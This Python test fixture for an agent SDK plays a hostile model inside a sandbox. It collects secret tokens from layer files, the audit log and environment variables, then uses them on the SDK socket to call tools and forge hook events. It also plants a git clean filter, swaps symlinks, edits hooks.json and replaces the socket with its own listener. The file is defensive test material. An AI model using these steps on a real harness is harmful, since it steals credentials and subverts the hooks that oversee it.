"""The attack on the SDK's extension channel a hostile model runs as a shell command (issue 43).

    python3 extension_attack.py LAYER_ROOT AUDIT_LOG WORKSPACE USER_CONFIG_HOME

Standard library only: the Python, TypeScript and Go tests all have the model run this same file
inside the sandbox of the binary under test (zero-engine, or the real Zero with its helper and
bwrap), then check its report, one JSON object on stdout.

Every step is harmless even when it succeeds: it reads, connects, and writes only inside the
test's own directories (the layer root and the workspace a test made; the planted git filter only
touches a file in the workspace). Steps:

1. read: every file of every layer under LAYER_ROOT, of the user's own config home
   (USER_CONFIG_HOME, which the layer links to: a test's, with a provider key in zero/config.json),
   the hooks audit log, its own environment; collects any 32-hex-digit token found there;
2. connect: to every layer's socket, as the MCP server with each token found (and none), and
   send `tools/call` for the tool `add`; as a hook, with a forged beforeTool payload;
3. plant: a git config with a `clean` filter and a file beside it in the layer's `xdg/`, a
   replacement for a layer symlink, an edit of the layer's hooks.json, a listener in place of its
   socket (to answer the real hook bridge in the SDK's stead).
"""

from __future__ import annotations

import glob
import json
import os
import re
import socket
import sys
from collections.abc import Callable

TOKEN = re.compile(rb"\b[0-9a-f]{32}\b")
SECRET_NAMES = ("ZERO_SDK_BRIDGE_TOKEN", "ZERO_SDK_PROVIDER_KEY_")


def read_step(layers: list[str], user_config: str, audit: str, report: dict[str, object]) -> set[str]:
    tokens: set[str] = set()
    readable: list[str] = []
    for layer in layers:
        for directory, _dirs, files in os.walk(layer):
            for name in files:
                path = os.path.join(directory, name)
                try:
                    with open(path, "rb") as file:
                        data = file.read()
                except OSError:
                    continue
                readable.append(os.path.relpath(path, layer))
                tokens.update(match.decode() for match in TOKEN.findall(data))
    report["readable_layer_files"] = sorted(set(readable))
    user_files = []
    for directory, _dirs, files in os.walk(user_config):
        for name in files:
            try:
                with open(os.path.join(directory, name), "rb") as file:
                    file.read(1)
                user_files.append(os.path.relpath(os.path.join(directory, name), user_config))
            except OSError:
                continue
    report["readable_user_config_files"] = sorted(user_files)
    try:
        with open(audit, "rb") as file:
            audit_data = file.read()
        report["audit_log_read"] = True
        tokens.update(match.decode() for match in TOKEN.findall(audit_data))
    except OSError:
        report["audit_log_read"] = False
    leaked = sorted(name for name in os.environ if name.startswith(SECRET_NAMES))
    report["secret_variables"] = leaked
    tokens.update(os.environ[name] for name in leaked)
    report["tokens_found"] = len(tokens)
    return tokens


def _exchange(path: str, lines: list[dict[str, object]], want: int) -> list[dict[str, object]]:
    """Sends `lines`, returns up to `want` reply lines (none when the SDK hangs up or is silent)."""
    replies: list[dict[str, object]] = []
    try:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(5)
        sock.connect(path)
        sock.sendall(b"".join(json.dumps(line).encode() + b"\n" for line in lines))
        buffer = b""
        while len(replies) < want:
            chunk = sock.recv(65536)
            if not chunk:
                break
            buffer += chunk
            while b"\n" in buffer and len(replies) < want:
                line, buffer = buffer.split(b"\n", 1)
                replies.append(json.loads(line))
        sock.close()
    except (OSError, ValueError) as exc:
        replies.append({"error": type(exc).__name__})
    return replies


def connect_step(layers: list[str], tokens: set[str], report: dict[str, object]) -> None:
    calls = []
    hooks = []
    for layer in layers:
        path = os.path.join(layer, "sdk.sock")
        for token in [*sorted(tokens), ""]:
            replies = _exchange(
                path,
                [
                    {"token": token, "kind": "mcp"},
                    {
                        "jsonrpc": "2.0",
                        "id": 1,
                        "method": "initialize",
                        "params": {
                            "protocolVersion": "2025-06-18",
                            "capabilities": {},
                            "clientInfo": {"name": "attack", "version": "1"},
                        },
                    },
                    {"jsonrpc": "2.0", "method": "notifications/initialized"},
                    {
                        "jsonrpc": "2.0",
                        "id": 2,
                        "method": "tools/call",
                        "params": {"name": "add", "arguments": {"a": 1000, "b": 1}},
                    },
                ],
                want=2,
            )
            calls.append(any(reply.get("id") == 2 and "result" in reply for reply in replies))
        forged: dict[str, object] = {"event": "beforeTool", "tool": "exec_command", "toolCallId": "forged"}
        hooks.append(_exchange(path, [{"kind": "hook"}, forged], want=1))
    report["tool_called"] = any(calls)
    report["hook_replies"] = hooks


def _attempt(action: Callable[[], None]) -> bool:
    try:
        action()
    except OSError:
        return False
    return True


def plant_layer(layer: str, workspace: str) -> list[str]:
    """What of the layer the command could change (names of the steps that succeeded)."""
    marker = os.path.join(workspace, "filter-ran")
    xdg = os.path.join(layer, "xdg")

    def git_config() -> None:
        if os.path.islink(os.path.join(xdg, "git")):
            # A link to the user's own git config directory: writing there is the user's setup
            # (a HOME in a write root), not the layer's; replacing the link is the next step.
            raise PermissionError("not the layer's")
        os.makedirs(os.path.join(xdg, "git"), exist_ok=True)
        with open(os.path.join(xdg, "git", "config"), "a", encoding="utf-8") as file:
            file.write(f'[filter "x"]\n\tclean = touch {marker}; cat\n')

    def beside() -> None:
        with open(os.path.join(xdg, "planted"), "w", encoding="utf-8") as file:
            file.write("x")

    def replace_link() -> None:
        links = [e.path for e in os.scandir(xdg) if e.is_symlink()] or [os.path.join(xdg, "git")]
        fake = os.path.join(workspace, "fake-link")
        if not os.path.lexists(fake):
            os.symlink(workspace, fake)
        os.replace(fake, links[0])

    def hooks_json() -> None:
        with open(os.path.join(xdg, "zero", "hooks.json"), "a", encoding="utf-8") as file:
            file.write(" ")

    def listener() -> None:
        path = os.path.join(layer, "sdk.sock")
        os.rename(path, path + ".old")
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(path)
        server.close()

    steps = (
        ("git config", git_config),
        ("file beside the links", beside),
        ("symlink replaced", replace_link),
        ("hooks.json", hooks_json),
        ("socket replaced", listener),
    )
    return [name for name, action in steps if _attempt(action)]


def plant_step(layers: list[str], workspace: str, report: dict[str, object]) -> None:
    report["planted"] = [name for layer in layers for name in plant_layer(layer, workspace)]
    with open(os.path.join(workspace, ".gitattributes"), "w", encoding="utf-8") as file:
        file.write("* filter=x\n")
    with open(os.path.join(workspace, "tracked.txt"), "a", encoding="utf-8") as file:
        file.write("changed by the model\n")


def main(argv: list[str]) -> int:
    root, audit, workspace, user_config = argv[1], argv[2], argv[3], argv[4]
    layers = sorted(glob.glob(os.path.join(root, "run-*")))
    report: dict[str, object] = {"layers": len(layers)}
    tokens = read_step(layers, user_config, audit, report)
    connect_step(layers, tokens, report)
    plant_step(layers, workspace, report)
    print("ATTACK " + json.dumps(report, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
